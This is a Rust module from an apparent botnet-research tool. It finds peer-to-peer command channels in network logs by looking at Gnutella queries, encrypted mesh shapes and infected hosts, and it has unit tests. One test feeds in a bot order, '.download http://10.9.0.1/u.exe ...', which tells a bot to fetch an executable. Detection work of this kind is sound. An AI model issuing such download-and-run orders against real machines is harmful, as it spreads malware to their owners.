//! Peer-to-peer command channels (the study's §9): the peer graph of each
//! host from its P2P links (`P2pLink` events: Gnutella 0.6 links and
//! opaque high-entropy links), which hosts use P2P as a command channel,
//! and which of those have no other C&C — no IRC or HTTP C&C and no DNS
//! lookup of a watch-listed C&C name — so counting infected hosts by
//! resolver logs (Table 3) misses them.
//!
//! A host with at least [`MIN_PEERS`] distinct peers gets a row. It is a
//! P2P **C&C** node when:
//! - `orders_received` — a Gnutella query it took part in carries an order
//!   of a known command ([`crate::orders::parse_order`], the IRC grammar);
//! - `encrypted_mesh` — at least [`MESH_MIN_LINKS`] opaque links on one
//!   port (its own listening port, or the peers' common port), each
//!   long-lived (at least [`MESH_MIN_DURATION_S`]) with symmetric volumes
//!   (the smaller direction at least [`MESH_MIN_SYMMETRY`] of the larger),
//!   and at least one of them accepted by the host (a mesh node listens as
//!   well as calls; a browser's TLS connections never come in);
//! - `infected_host` — the host was exploited, sent a copy of a bot, or is
//!   an IRC/HTTP C&C bot, and has P2P links.
//!
//! A file-sharing client (no orders, no mesh, not infected) stays
//! `unattributed`, with its peer graph.

use crate::analysis::{round2, Report};
use crate::attribution::{Attribution, CC, UNATTRIBUTED};
use crate::inputs::Inputs;
use crate::orders::{parse_order, OrderKind};
use botscope_core::events::P2pLink;
use serde::Serialize;
use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::net::IpAddr;

/// Fewest distinct peers for a host to get a row.
pub const MIN_PEERS: usize = 3;
/// Fewest opaque links on one port that make a mesh.
pub const MESH_MIN_LINKS: usize = 3;
/// Shortest mesh link, seconds.
pub const MESH_MIN_DURATION_S: f64 = 60.0;
/// Smallest ratio of the smaller direction's bytes to the larger's.
pub const MESH_MIN_SYMMETRY: f64 = 0.25;

/// One peer of a host.
#[derive(Clone, Debug, Serialize, PartialEq)]
pub struct PeerRow {
    /// The peer's address.
    pub peer: IpAddr,
    /// The peer's port on the first link.
    pub port: u16,
    /// `gnutella` or `opaque`.
    pub protocol: String,
    /// Links with this peer.
    pub links: u64,
    /// Links the host opened (the rest the peer opened).
    pub outbound: u64,
    /// Payload bytes the host sent.
    pub bytes_out: u64,
    /// Payload bytes the host received.
    pub bytes_in: u64,
    /// Longest link, seconds.
    pub longest_s: f64,
    /// Flow uid of the first link.
    pub uid: String,
}

/// The encrypted-mesh shape of a host's opaque links on one port.
#[derive(Clone, Debug, Serialize, PartialEq)]
pub struct MeshShape {
    /// The port the links share.
    pub port: u16,
    /// Opaque links on it.
    pub links: u64,
    /// Of them, long-lived and symmetric.
    pub long_symmetric: u64,
    /// Of them, accepted by the host.
    pub inbound: u64,
    /// Mean entropy of both directions' samples, bits per byte.
    pub mean_entropy: f64,
}

/// One host's P2P links: its peer graph and verdict.
#[derive(Clone, Debug, Serialize, PartialEq)]
pub struct P2pHostRow {
    /// The host.
    pub host: IpAddr,
    /// Protocols of its links (`gnutella`, `opaque`).
    pub protocols: Vec<String>,
    /// Links.
    pub links: u64,
    /// Its peers, by address.
    pub peers: Vec<PeerRow>,
    /// Peers learnt from pongs and `X-Try-Ultrapeers` (not yet linked).
    pub learnt_peers: u64,
    /// The mesh shape on its busiest opaque port, when it has one.
    pub mesh: Option<MeshShape>,
    /// Orders carried in Gnutella queries.
    pub orders: Vec<String>,
    /// C&C node or unattributed, with the evidence.
    pub attribution: Attribution,
    /// Other C&C the host has: `irc <server>:<port>`, `http
    /// <server>:<port>`, `dns <name>` (a lookup of a watch-listed name).
    pub other_cc: Vec<String>,
    /// A P2P C&C node with no other C&C: DNS-based counting misses it.
    pub p2p_only: bool,
}

/// The host and peer sides of a link as seen from `host`.
fn sides(l: &P2pLink, host: IpAddr) -> (IpAddr, u16, bool, u64, u64) {
    if l.id.orig_h == host {
        (l.id.resp_h, l.id.resp_p, true, l.orig_bytes, l.resp_bytes)
    } else {
        (l.id.orig_h, l.id.orig_p, false, l.resp_bytes, l.orig_bytes)
    }
}

/// The host's peers, one row per peer address.
fn peers(host: IpAddr, links: &[&P2pLink]) -> Vec<PeerRow> {
    let mut m: BTreeMap<IpAddr, PeerRow> = BTreeMap::new();
    for l in links {
        let (peer, port, out, sent, got) = sides(l, host);
        let p = m.entry(peer).or_insert_with(|| PeerRow {
            peer,
            port,
            protocol: l.protocol.clone(),
            links: 0,
            outbound: 0,
            bytes_out: 0,
            bytes_in: 0,
            longest_s: 0.0,
            uid: l.uid.clone(),
        });
        p.links += 1;
        p.outbound += u64::from(out);
        p.bytes_out += sent;
        p.bytes_in += got;
        p.longest_s = p.longest_s.max(round2(l.duration));
    }
    m.into_values().collect()
}

/// Whether a link is long-lived with symmetric volumes.
fn long_symmetric(l: &P2pLink) -> bool {
    let (a, b) = (
        l.orig_bytes.min(l.resp_bytes),
        l.orig_bytes.max(l.resp_bytes),
    );
    l.duration >= MESH_MIN_DURATION_S && b > 0 && a as f64 >= MESH_MIN_SYMMETRY * b as f64
}

/// The mesh shape of the host's opaque links on their busiest shared port
/// (the host's own port for accepted links, the peer's for opened ones).
fn mesh(host: IpAddr, links: &[&P2pLink]) -> Option<MeshShape> {
    let mut by_port: BTreeMap<u16, Vec<(&P2pLink, bool)>> = BTreeMap::new();
    for l in links.iter().filter(|l| l.protocol == "opaque") {
        let inbound = l.id.resp_h == host;
        by_port.entry(l.id.resp_p).or_default().push((l, inbound));
    }
    let (port, ls) = by_port
        .into_iter()
        .max_by_key(|(p, ls)| (ls.iter().filter(|(l, _)| long_symmetric(l)).count(), *p))?;
    let ent: f64 = ls
        .iter()
        .map(|(l, _)| (l.orig_entropy + l.resp_entropy) / 2.0)
        .sum::<f64>()
        / ls.len() as f64;
    Some(MeshShape {
        port,
        links: ls.len() as u64,
        long_symmetric: ls.iter().filter(|(l, _)| long_symmetric(l)).count() as u64,
        inbound: ls.iter().filter(|(_, i)| *i).count() as u64,
        mean_entropy: (ent * 1000.0).round() / 1000.0,
    })
}

/// Fewest times one search text must recur in a Gnutella network for it
/// to be a standing query (a bot's scheduled search for its orders).
pub const STANDING_QUERY_REPEATS: usize = 3;

/// One P2P network: the hosts joined by links of one protocol, and
/// whether its shape is a botnet mesh.
#[derive(Clone, Debug, Default)]
struct Network {
    hosts: BTreeSet<IpAddr>,
    /// Evidence that the network is a botnet mesh (empty: it is not).
    mesh: Vec<String>,
}

/// Splits the links of one protocol into connected networks (union-find
/// over hosts) and judges each: a **mesh** when at least
/// [`MESH_MIN_LINKS`] links, all long-lived, go to one port on at least
/// two hosts, one of which also opens links (peers listen and call, unlike
/// clients of servers); an opaque mesh must also be symmetric and
/// high-entropy (the opaque-link test), a Gnutella mesh must carry a
/// standing query (one search text recurring [`STANDING_QUERY_REPEATS`]
/// times or more).
fn networks(links: &[&P2pLink]) -> Vec<Network> {
    let mut parent: BTreeMap<IpAddr, IpAddr> = BTreeMap::new();
    fn find(p: &mut BTreeMap<IpAddr, IpAddr>, x: IpAddr) -> IpAddr {
        let mut r = x;
        while let Some(&q) = p.get(&r) {
            if q == r {
                break;
            }
            r = q;
        }
        p.insert(x, r);
        r
    }
    for l in links {
        for h in [l.id.orig_h, l.id.resp_h] {
            parent.entry(h).or_insert(h);
        }
        let (a, b) = (
            find(&mut parent, l.id.orig_h),
            find(&mut parent, l.id.resp_h),
        );
        if a != b {
            parent.insert(a, b);
        }
    }
    let mut by_root: BTreeMap<IpAddr, Vec<&P2pLink>> = BTreeMap::new();
    for l in links {
        let root = find(&mut parent, l.id.orig_h);
        by_root.entry(root).or_default().push(l);
    }
    by_root
        .into_values()
        .map(|ls| {
            let hosts: BTreeSet<IpAddr> =
                ls.iter().flat_map(|l| [l.id.orig_h, l.id.resp_h]).collect();
            Network {
                mesh: mesh_evidence(&ls),
                hosts,
            }
        })
        .collect()
}

/// Why one network is a botnet mesh (empty when it is not).
fn mesh_evidence(ls: &[&P2pLink]) -> Vec<String> {
    let mut ports: BTreeMap<u16, usize> = BTreeMap::new();
    for l in ls {
        *ports.entry(l.id.resp_p).or_default() += 1;
    }
    let Some((&port, &n)) = ports.iter().max_by_key(|(p, n)| (**n, **p)) else {
        return Vec::new();
    };
    let on_port: Vec<&&P2pLink> = ls.iter().filter(|l| l.id.resp_p == port).collect();
    let listeners: BTreeSet<IpAddr> = on_port.iter().map(|l| l.id.resp_h).collect();
    let callers: BTreeSet<IpAddr> = on_port.iter().map(|l| l.id.orig_h).collect();
    let peers_both = listeners.intersection(&callers).count();
    let long = on_port
        .iter()
        .filter(|l| l.duration >= MESH_MIN_DURATION_S)
        .count();
    if n < MESH_MIN_LINKS || long < n || listeners.len() < 2 || peers_both == 0 {
        return Vec::new();
    }
    let shape = format!(
        "mesh: {n} long-lived links on port {port} among {} hosts, {} listening, {peers_both} of them also calling",
        listeners.union(&callers).count(),
        listeners.len()
    );
    if on_port.iter().all(|l| l.protocol == "opaque") {
        let sym = on_port.iter().filter(|l| long_symmetric(l)).count();
        if sym < n {
            return Vec::new();
        }
        let ent = on_port
            .iter()
            .map(|l| (l.orig_entropy + l.resp_entropy) / 2.0)
            .sum::<f64>()
            / n as f64;
        return vec![
            shape,
            format!("encrypted_mesh: symmetric volumes, entropy {ent:.2} bits/byte"),
        ];
    }
    let mut texts: BTreeMap<&str, usize> = BTreeMap::new();
    for q in on_port.iter().flat_map(|l| l.queries.iter()) {
        *texts.entry(q.as_str()).or_default() += 1;
    }
    match texts.iter().max_by_key(|(t, n)| (**n, *t)) {
        Some((t, &k)) if k >= STANDING_QUERY_REPEATS => {
            vec![shape, format!("standing_query: {t:?} searched {k} times")]
        }
        _ => Vec::new(),
    }
}

/// Whether a DNS name is a watch-listed name or under one.
fn watched(name: &str, watch: &BTreeSet<String>) -> Option<String> {
    let n = name.trim_end_matches('.').to_ascii_lowercase();
    let mut s = n.as_str();
    loop {
        if watch.contains(s) {
            return Some(s.to_string());
        }
        s = s.split_once('.')?.1;
    }
}

/// The C&C each host has besides P2P: IRC sessions, HTTP C&C rows and
/// DNS lookups of watch-listed names (the `--watch` names, or, without
/// them, the C&C names this run found: IRC servers' FQDNs and HTTP C&C
/// Host headers).
fn other_cc(inp: &Inputs, r: &Report, watch: &[String]) -> BTreeMap<IpAddr, Vec<String>> {
    let mut m: BTreeMap<IpAddr, Vec<String>> = BTreeMap::new();
    for s in r.sessions.iter().filter(|s| s.attribution.is_cc()) {
        m.entry(s.bot)
            .or_default()
            .push(format!("irc {}:{}", s.server, s.port));
    }
    for h in &r.table9_http {
        for b in &h.bots {
            m.entry(*b)
                .or_default()
                .push(format!("http {}:{}", h.server, h.port));
        }
    }
    let mut names: BTreeSet<String> = watch.iter().map(|w| w.to_ascii_lowercase()).collect();
    if names.is_empty() {
        names.extend(r.sessions.iter().filter_map(|s| s.fqdn.clone()));
        names.extend(r.table9_http.iter().filter_map(|h| {
            h.host
                .as_deref()
                .map(|x| x.split(':').next().unwrap_or(x).to_ascii_lowercase())
        }));
    }
    for d in &inp.dns {
        if let Some(n) = d.query.as_deref().and_then(|q| watched(q, &names)) {
            let e = m.entry(d.id.orig_h).or_default();
            let v = format!("dns {n}");
            if !e.contains(&v) {
                e.push(v);
            }
        }
    }
    for v in m.values_mut() {
        v.sort();
        v.dedup();
    }
    m
}

/// The verdict of one host.
fn attribute(
    orders: &[String],
    mesh: Option<&MeshShape>,
    network: &[String],
    infected: Option<&String>,
    gnutella_links: usize,
) -> Attribution {
    let mut a = Attribution::default();
    a.evidence_for.extend(network.iter().cloned());
    if let Some(o) = orders.first() {
        a.evidence_for
            .push(format!("orders_received: {} ({o})", orders.len()));
    }
    let is_mesh =
        mesh.is_some_and(|m| m.long_symmetric as usize >= MESH_MIN_LINKS && m.inbound > 0);
    // The host's own mesh figures matter only outside a botnet mesh (the
    // network's evidence above already decides for its members).
    if let Some(m) = mesh.filter(|_| network.is_empty()) {
        let e = format!(
            "encrypted_mesh: {} opaque links on port {}, {} long-lived and symmetric, {} accepted, entropy {:.2}",
            m.links, m.port, m.long_symmetric, m.inbound, m.mean_entropy
        );
        if is_mesh {
            a.evidence_for.push(e);
        } else {
            a.evidence_against.push(format!("no {e}"));
        }
    }
    if let Some(i) = infected {
        a.evidence_for.push(format!("infected_host: {i}"));
    }
    if orders.is_empty() && network.is_empty() && gnutella_links > 0 {
        a.evidence_against.push(format!(
            "file_sharing: {gnutella_links} Gnutella links, no orders in queries"
        ));
    }
    let (cc, reason) = if !orders.is_empty() {
        (true, "P2P queries carry orders")
    } else if !network.is_empty() {
        (true, "a member of a botnet-shaped P2P mesh")
    } else if is_mesh {
        (true, "a long-lived encrypted mesh on one port")
    } else if infected.is_some() {
        (true, "an infected host with P2P links")
    } else {
        (false, "P2P links without orders, mesh shape or infection")
    };
    a.verdict = if cc { CC } else { UNATTRIBUTED }.into();
    a.reason = reason.into();
    a
}

/// The P2P host rows (`r.p2p_hosts`) and the hosts whose only C&C is
/// P2P (`r.p2p_only_hosts`). Reads Table 9's IRC and HTTP rows, so runs
/// after them.
pub(crate) fn p2p(inp: &Inputs, watch: &[String], r: &mut Report) {
    let mut by_host: BTreeMap<IpAddr, Vec<&P2pLink>> = BTreeMap::new();
    for l in &inp.p2p {
        by_host.entry(l.id.orig_h).or_default().push(l);
        by_host.entry(l.id.resp_h).or_default().push(l);
    }
    let mut infected: BTreeMap<IpAddr, String> = crate::attribution::infected_hosts(inp, &r.copies)
        .into_iter()
        .map(|(h, (_, what))| (h, what))
        .collect();
    for s in r
        .sessions
        .iter()
        .filter(|s| s.role == "bot" && s.attribution.is_cc())
    {
        infected
            .entry(s.bot)
            .or_insert_with(|| format!("IRC C&C bot of {}:{} ({})", s.server, s.port, s.uid));
    }
    let other = other_cc(inp, r, watch);
    let mut mesh_of: BTreeMap<IpAddr, Vec<String>> = BTreeMap::new();
    for proto in ["gnutella", "opaque"] {
        let ls: Vec<&P2pLink> = inp.p2p.iter().filter(|l| l.protocol == proto).collect();
        for n in networks(&ls).into_iter().filter(|n| !n.mesh.is_empty()) {
            for h in &n.hosts {
                mesh_of
                    .entry(*h)
                    .or_default()
                    .extend(n.mesh.iter().cloned());
            }
        }
    }
    for (host, links) in by_host {
        let peers = peers(host, &links);
        let network = mesh_of.get(&host).cloned().unwrap_or_default();
        if peers.len() < MIN_PEERS && network.is_empty() {
            continue;
        }
        let mut orders: Vec<String> = Vec::new();
        let mut learnt: HashSet<&str> = HashSet::new();
        for l in &links {
            learnt.extend(l.learnt_peers.iter().map(String::as_str));
            for q in &l.queries {
                if parse_order(q).is_some_and(|o| o.kind != OrderKind::Unknown)
                    && !orders.contains(q)
                {
                    orders.push(q.clone());
                }
            }
        }
        let mesh = mesh(host, &links);
        let gnutella = links.iter().filter(|l| l.protocol == "gnutella").count();
        let attribution = attribute(
            &orders,
            mesh.as_ref(),
            &network,
            infected.get(&host),
            gnutella,
        );
        let mut protocols: Vec<String> = links.iter().map(|l| l.protocol.clone()).collect();
        protocols.sort();
        protocols.dedup();
        let other_cc = other.get(&host).cloned().unwrap_or_default();
        let p2p_only = attribution.is_cc() && other_cc.is_empty();
        r.p2p_hosts.push(P2pHostRow {
            host,
            protocols,
            links: links.len() as u64,
            peers,
            learnt_peers: learnt.len() as u64,
            mesh,
            orders,
            attribution,
            other_cc,
            p2p_only,
        });
    }
    r.p2p_only_hosts = r
        .p2p_hosts
        .iter()
        .filter(|h| h.p2p_only)
        .map(|h| h.host)
        .collect();
}

#[cfg(test)]
mod tests {
    use super::*;
    use botscope_core::{FlowKey, Proto, Ts};

    #[allow(clippy::too_many_arguments)]
    fn link(
        o: &str,
        op: u16,
        rh: &str,
        rp: u16,
        proto: &str,
        dur: f64,
        ob: u64,
        rb: u64,
    ) -> P2pLink {
        P2pLink {
            ts: Ts(0),
            uid: format!("C{o}{rh}"),
            id: FlowKey {
                orig_h: o.parse().unwrap(),
                orig_p: op,
                resp_h: rh.parse().unwrap(),
                resp_p: rp,
                proto: Proto::Tcp,
            },
            protocol: proto.into(),
            status: None,
            user_agent: None,
            descriptors: Default::default(),
            tls: false,
            gnutella2: false,
            learnt_peers: vec![],
            queries: vec![],
            duration: dur,
            orig_bytes: ob,
            resp_bytes: rb,
            orig_entropy: 7.9,
            resp_entropy: 7.9,
            evidence: Default::default(),
        }
    }

    fn run(links: Vec<P2pLink>) -> Report {
        let inp = Inputs {
            p2p: links,
            ..Default::default()
        };
        let mut r = Report::default();
        p2p(&inp, &[], &mut r);
        r
    }

    #[test]
    fn a_long_symmetric_mesh_with_an_accepted_link_is_cc_and_p2p_only() {
        let h = "10.0.0.5";
        let r = run(vec![
            link(h, 4001, "10.1.0.1", 1337, "opaque", 900.0, 40_000, 38_000),
            link(h, 4002, "10.1.0.2", 1337, "opaque", 1200.0, 20_000, 25_000),
            link("10.1.0.3", 4003, h, 1337, "opaque", 800.0, 30_000, 31_000),
        ]);
        let row = r
            .p2p_hosts
            .iter()
            .find(|x| x.host.to_string() == h)
            .unwrap();
        assert!(row.attribution.is_cc(), "{:?}", row.attribution);
        assert_eq!(row.mesh.as_ref().unwrap().port, 1337);
        assert_eq!(row.mesh.as_ref().unwrap().long_symmetric, 3);
        assert_eq!(row.peers.len(), 3);
        // The whole mesh is the botnet: every member is P2P-only here.
        let all: Vec<IpAddr> = ["10.0.0.5", "10.1.0.1", "10.1.0.2", "10.1.0.3"]
            .iter()
            .map(|x| x.parse().unwrap())
            .collect();
        assert_eq!(r.p2p_only_hosts, all);
    }

    #[test]
    fn downloads_and_outbound_only_links_are_not_a_mesh() {
        let h = "10.0.0.6";
        // A browser's TLS: long, one-sided, never accepted.
        let r = run(vec![
            link(h, 5001, "10.2.0.1", 443, "opaque", 900.0, 2_000, 900_000),
            link(h, 5002, "10.2.0.2", 443, "opaque", 900.0, 30_000, 31_000),
            link(h, 5003, "10.2.0.3", 443, "opaque", 900.0, 30_000, 31_000),
            link(h, 5004, "10.2.0.4", 443, "opaque", 900.0, 30_000, 31_000),
        ]);
        let row = r
            .p2p_hosts
            .iter()
            .find(|x| x.host.to_string() == h)
            .unwrap();
        assert!(!row.attribution.is_cc(), "{:?}", row.attribution);
        assert!(r.p2p_only_hosts.is_empty());
    }

    #[test]
    fn gnutella_queries_with_orders_make_cc() {
        let h = "10.0.0.7";
        let mut ls = vec![
            link(h, 6001, "10.3.0.1", 6346, "gnutella", 30.0, 100, 100),
            link(h, 6002, "10.3.0.2", 6346, "gnutella", 30.0, 100, 100),
            link(h, 6003, "10.3.0.3", 6346, "gnutella", 30.0, 100, 100),
        ];
        let benign = run(ls.clone());
        assert!(!benign.p2p_hosts[0].attribution.is_cc());
        ls[1].queries = vec![".download http://10.9.0.1/u.exe c:\\u.exe 1".into()];
        let r = run(ls);
        let row = r
            .p2p_hosts
            .iter()
            .find(|x| x.host.to_string() == h)
            .unwrap();
        assert!(row.attribution.is_cc());
        assert_eq!(row.orders.len(), 1);
    }

    #[test]
    fn watched_names_match_subdomains() {
        let w: BTreeSet<String> = ["evil.example".to_string()].into();
        assert_eq!(
            watched("IRC.Evil.Example.", &w).as_deref(),
            Some("evil.example")
        );
        assert_eq!(watched("example", &w), None);
    }
}
